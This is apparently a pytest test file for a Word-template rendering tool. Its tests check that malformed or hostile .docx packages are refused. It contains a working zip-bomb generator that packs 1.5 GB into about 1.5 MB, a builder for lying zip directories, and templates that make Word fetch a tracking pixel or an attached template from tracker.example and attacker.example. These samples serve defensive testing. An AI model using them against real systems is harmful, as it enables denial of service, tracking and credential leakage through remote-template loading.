"""A template's zip is bounded before anything is inflated (issue 11, Major 10: the 1.5 GB part)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dialogue_cli.cli import app
from dialogue_cli.render.environment import TemplateProblem
from dialogue_cli.render.package import MAX_ENTRIES, checked_package
from dialogue_cli.render.templates import check_file, packaged_dir

MiB = 1 << 20


@pytest.fixture(autouse=True)
def _chart_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DIALOGUE_CACHE", str(tmp_path / "cache"))


def _write_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -> None:
    """A zip written field by field: (name, deflated data, crc, declared size, method)."""
    local, central = bytearray(), bytearray()
    for name, data, crc, size, method in entries:
        raw = name.encode()
        offset = len(local)
        local += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0)  # fmt: skip
        local += raw + data
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0, 0, 0, 0, 0, offset)  # fmt: skip
        central += raw
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(local), 0)  # fmt: skip
    path.write_bytes(bytes(local + central + end))


def _deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _bomb(path: Path, megabytes: int, declared: int | None = None) -> None:
    """The default quote template whose document.xml inflates to ``megabytes`` MB of XML.

    Deflate blocks ended by a full flush do not refer back, so one compressed megabyte of
    spaces is repeated: 1.5 GB of XML in 1.5 MB, written in a fraction of a second. With
    ``declared``, the zip directory lies: it announces that many bytes (and their CRC).
    """
    entries = []
    with zipfile.ZipFile(packaged_dir() / "devis.docx") as template:
        for info in template.infolist():
            data = template.read(info)
            if info.filename != "word/document.xml":
                entries.append((info.filename, _deflated(data), zlib.crc32(data), len(data), 8))
                continue
            head, tail = data.split(b"<w:body>", 1)
            head += b"<w:body>"
            spaces = b" " * MiB
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            stream = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
            block = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
            stream += block * megabytes + compressor.compress(tail) + compressor.flush()
            crc = zlib.crc32(head)
            for _ in range(megabytes):
                crc = zlib.crc32(spaces, crc)
            crc = zlib.crc32(tail, crc)
            size = len(head) + megabytes * MiB + len(tail)
            if declared is not None:
                crc, size = zlib.crc32((head + spaces)[:declared]), declared
            entries.append((info.filename, stream, crc, size & 0xFFFFFFFF, 8))
    _write_zip(path, entries)


def _refused(result: object) -> str:
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    assert "Traceback" not in result.output  # type: ignore[attr-defined]
    lines: list[str] = result.stderr.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1, lines
    return lines[0]


def test_a_part_inflating_to_1_5_gb_is_refused_by_render_and_check_from_the_directory(
    runner: CliRunner, example: Path
) -> None:
    template = example / "templates" / "devis.docx"
    template.parent.mkdir()
    _bomb(template, 1500)
    assert template.stat().st_size < 2 * MiB
    expected = "word/document.xml inflates to 1500.0 MB, more than the 3.0 MB a part may have"
    line = _refused(runner.invoke(app, ["render", str(example), "--only", "devis"]))
    assert line.endswith(f"devis.docx: {expected}")
    check = runner.invoke(app, ["templates", "check", str(template.parent)])
    assert check.exit_code == 1
    assert f"devis.docx: error: {expected}" in check.stderr
    assert not (example / "livrables" / "devis.docx").exists()


def test_a_directory_that_lies_about_a_size_is_never_inflated_past_it(tmp_path: Path) -> None:
    """The directory says 1 000 bytes (with their CRC); the data inflates to 1.5 GB."""
    template = tmp_path / "devis.docx"
    _bomb(template, 1500, declared=1000)
    data = checked_package(template.read_bytes(), "devis.docx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.getinfo("word/document.xml").file_size == 1000  # cut where it claimed
    errors = [f.message for f in check_file(template) if f.level == "error"]
    assert len(errors) == 1 and errors[0].startswith("word/document.xml is not well-formed XML")


def test_a_real_bomb_below_the_cap_inflates_and_renders(runner: CliRunner, example: Path) -> None:
    """The writer above makes valid packages: 2 MB of spaces in the body still render."""
    template = example / "templates" / "devis.docx"
    template.parent.mkdir()
    _bomb(template, 2)
    result = runner.invoke(app, ["render", str(example), "--only", "devis"])
    assert result.exit_code == 0, result.output


def _package(tmp_path: Path, extra: int = 0, method: int = zipfile.ZIP_DEFLATED) -> Path:
    target = tmp_path / "devis.docx"
    with (
        zipfile.ZipFile(packaged_dir() / "devis.docx") as zin,
        zipfile.ZipFile(target, "w") as zout,
    ):
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info), compress_type=method)
        for n in range(extra):
            zout.writestr(f"customXml/extra{n}.xml", "<a/>")
    return target


@pytest.mark.parametrize(
    ("damage", "expected"),
    [
        ("entries", f"{MAX_ENTRIES + 1} parts in the package, more than the {MAX_ENTRIES} a template may have"),
        ("zip64", "a ZIP64 archive: Word never writes one for a template"),
        ("bzip2", "[Content_Types].xml uses a compression Word does not write"),
        ("encrypted", "[Content_Types].xml is encrypted"),
        ("truncated", "not a Word .docx file (no zip directory)"),
        ("crc", "word/document.xml is damaged (Bad CRC-32 for file 'word/document.xml')"),
    ],
)  # fmt: skip
def test_packages_no_word_template_needs_are_refused(
    tmp_path: Path, damage: str, expected: str
) -> None:
    if damage == "entries":
        count = len(zipfile.ZipFile(packaged_dir() / "devis.docx").namelist())
        path = _package(tmp_path, extra=MAX_ENTRIES + 1 - count)
    elif damage == "bzip2":
        path = _package(tmp_path, method=zipfile.ZIP_BZIP2)
    else:
        path = _package(tmp_path)
        data = bytearray(path.read_bytes())
        end = data.rfind(b"PK\x05\x06")
        first = data.find(b"PK\x01\x02")
        if damage == "zip64":
            data[end + 10 : end + 12] = b"\xff\xff"
        elif damage == "encrypted":
            data[first + 8] |= 1
        elif damage == "truncated":
            data = data[: end - 10]
        else:  # flip one byte of document.xml's CRC in both headers
            info = zipfile.ZipFile(path).getinfo("word/document.xml")
            wrong = struct.pack("<L", info.CRC ^ 1)
            data[info.header_offset + 14 : info.header_offset + 18] = wrong
            at = data.find(b"word/document.xml", first) - 46
            data[at + 16 : at + 20] = wrong
        path.write_bytes(bytes(data))
    with pytest.raises(TemplateProblem) as caught:
        checked_package(path.read_bytes(), "devis.docx")
    assert caught.value.message == expected
    assert [f.message for f in check_file(path)] == [expected]


def test_duplicate_parts_are_refused(tmp_path: Path) -> None:
    path = _package(tmp_path)
    with pytest.warns(UserWarning), zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert [f.message for f in check_file(path)] == ["duplicate zip entries: word/document.xml"]


def test_a_template_that_is_a_named_pipe_is_refused_without_blocking(
    runner: CliRunner, example: Path
) -> None:
    import os

    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    folder = example / "templates"
    folder.mkdir()
    os.mkfifo(folder / "devis.docx")
    line = _refused(runner.invoke(app, ["render", str(example), "--only", "devis"]))
    assert line.endswith("devis.docx: is a named pipe, not a regular file")
    check = runner.invoke(app, ["templates", "check", str(folder)])
    assert "devis.docx: error: is a named pipe, not a regular file" in check.stderr


def test_the_repacked_package_keeps_every_part(tmp_path: Path) -> None:
    source = packaged_dir() / "cahier-des-charges.docx"
    data = checked_package(source.read_bytes(), "cahier-des-charges.docx")
    with zipfile.ZipFile(source) as before, zipfile.ZipFile(io.BytesIO(data)) as after:
        assert after.namelist() == before.namelist()
        for name in before.namelist():
            assert after.read(name) == before.read(name), name


def _with_outside_content(path: Path, kind: str) -> None:
    """A template that makes Word fetch something from elsewhere when it is opened."""
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml

    document = Document()
    document.add_paragraph("{{ client.name }}")
    if kind == "picture":
        document.part.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
    elif kind == "attached template":
        attached = (
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        )
        settings = document.part._settings_part
        settings.relate_to("file://attacker.example/share/t.dotm", attached, is_external=True)
    elif kind == "field":
        paragraph = document.add_paragraph()
        paragraph._p.append(parse_xml(
            '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'w:instr=\' INCLUDEPICTURE "http://tracker.example/p.png" \\d \'><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        ))  # fmt: skip
    elif kind == "hyperlink":
        document.part.relate_to("https://www.ormessac.fr", RT.HYPERLINK, is_external=True)
    path.parent.mkdir(exist_ok=True)
    document.save(str(path))


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("picture", "word/_rels/document.xml.rels points outside the file (image: http://tracker.example/pixel.png)"),
        ("attached template", "word/_rels/settings.xml.rels points outside the file (attachedTemplate: file://attacker.example/share/t.dotm)"),
        ("field", "word/document.xml holds a field INCLUDEPICTURE, which Word runs or fetches on opening"),
    ],
)  # fmt: skip
def test_content_word_would_fetch_from_outside_is_refused(
    runner: CliRunner, example: Path, kind: str, expected: str
) -> None:
    template = example / "templates" / "devis.docx"
    _with_outside_content(template, kind)
    check = runner.invoke(app, ["templates", "check", str(template.parent)])
    assert check.exit_code == 1
    assert f"devis.docx: error: content from outside the file: {expected}" in check.stderr
    line = _refused(runner.invoke(app, ["render", str(example), "--only", "devis"]))
    assert line.endswith(f"devis.docx: content from outside the file: {expected}")


def test_a_hyperlink_is_not_outside_content(runner: CliRunner, example: Path) -> None:
    template = example / "templates" / "devis.docx"
    _with_outside_content(template, "hyperlink")
    result = runner.invoke(app, ["render", str(example), "--only", "devis"])
    assert result.exit_code == 0, result.output
